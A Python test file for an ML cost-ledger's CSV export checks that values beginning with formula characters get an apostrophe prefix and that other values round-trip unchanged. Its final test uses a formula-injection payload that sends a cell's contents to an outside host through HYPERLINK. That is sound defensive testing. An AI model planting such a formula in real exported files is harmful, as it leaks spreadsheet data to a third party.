"""CSV that a spreadsheet opens without running anything of it."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import datetime, timezone
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mlcost_ext.core.ledger import Attribution
from mlcost_ext.ledger.focus import COLUMNS, row_of
from mlcost_ext.ledger.focus.csv_file import FORMULA_STARTS, cell, write_csv
from mlcost_ext.ledger.focus.rows import Row

from .samples import SAMPLES, charge


def written(rows: list[Row]) -> list[dict[str, str]]:
    """Write rows and read them again."""
    file = io.BytesIO()
    write_csv(file, [rows])
    return list(csv.DictReader(io.StringIO(file.getvalue().decode("utf-8"), newline="")))


@given(st.sampled_from("=+-@\t\r\n＝＋－＠"), st.text(st.characters(exclude_categories=["Cs"])))
def test_no_text_is_taken_for_a_formula(start: str, rest: str) -> None:
    """An apostrophe stands before it, and nothing else is changed."""
    assert cell(start + rest) == f"'{start}{rest}"


@given(st.text(st.characters(exclude_categories=["Cs"])).filter(lambda text: not text.startswith(FORMULA_STARTS)))
def test_every_other_text_is_left_alone(text: str) -> None:
    """Character by character."""
    assert cell(text) == text


@given(st.decimals(allow_nan=False, allow_infinity=False, places=9, min_value=-(10**20), max_value=10**20))
def test_a_number_is_a_number(amount: Decimal) -> None:
    """Also below zero: plain digits, no exponent, no apostrophe, the same value."""
    assert Decimal(cell(amount)) == amount
    assert set(cell(amount)) <= set("-.0123456789")


@pytest.mark.parametrize(
    ("value", "text"),
    [(None, ""), (True, "true"), (False, "false"), (datetime(2026, 11, 3, 10, tzinfo=timezone.utc), "2026-11-03T10:00:00Z")],
)
def test_other_values(value: object, text: str) -> None:
    """Nulls, truths, times."""
    assert cell(value) == text  # type: ignore[arg-type]


@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), min_size=1, max_size=20))
def test_what_is_written_is_read_again(name: str) -> None:
    """Line breaks, quotes and commas of a name stay in their cell."""
    (row,) = written([row_of(charge(who=Attribution(user_name=name, project='a,"b"\r\nc')))])
    assert row["x_User"] == cell(name)
    assert row["x_Project"] == 'a,"b"\r\nc'
    assert not row["x_User"].startswith(FORMULA_STARTS)


def test_every_cell_of_every_kind() -> None:
    """The names first, then each row under them."""
    rows = [row_of(record) for record in SAMPLES.values()]
    found = written(rows)
    assert list(found[0]) == [column.name for column in COLUMNS]
    assert found == [{name: cell(value) for name, value in row.items()} for row in rows]
    assert [row["ListCost"] for row in found if row["ChargeClass"]] == ["-0.0115"]


def test_a_tag_or_a_name_from_outside_is_neutral_in_the_file() -> None:
    """As somebody would try it."""
    evil = '=HYPERLINK("https://example.com?"&A1,"total")'
    record = charge(resource={"name": evil}, who=Attribution(notebook="+1+1.ipynb", project="@SUM(A1)", cell_id="\t=1"))
    (row,) = written([row_of(replace(record))])
    assert (row["ResourceName"], row["x_ResourceName"]) == (f"'{evil}", f"'{evil}")
    assert (row["x_Notebook"], row["x_Project"], row["x_CellId"]) == ("'+1+1.ipynb", "'@SUM(A1)", "'\t=1")
